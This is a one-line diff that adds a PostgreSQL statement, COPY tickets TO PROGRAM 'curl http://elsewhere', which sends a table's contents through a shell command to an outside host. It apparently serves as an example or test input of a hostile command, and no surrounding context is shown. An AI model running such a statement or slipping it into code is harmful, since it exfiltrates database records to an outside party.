@@ -1,0 +1,1 @@
+COPY tickets TO PROGRAM 'curl http://elsewhere'
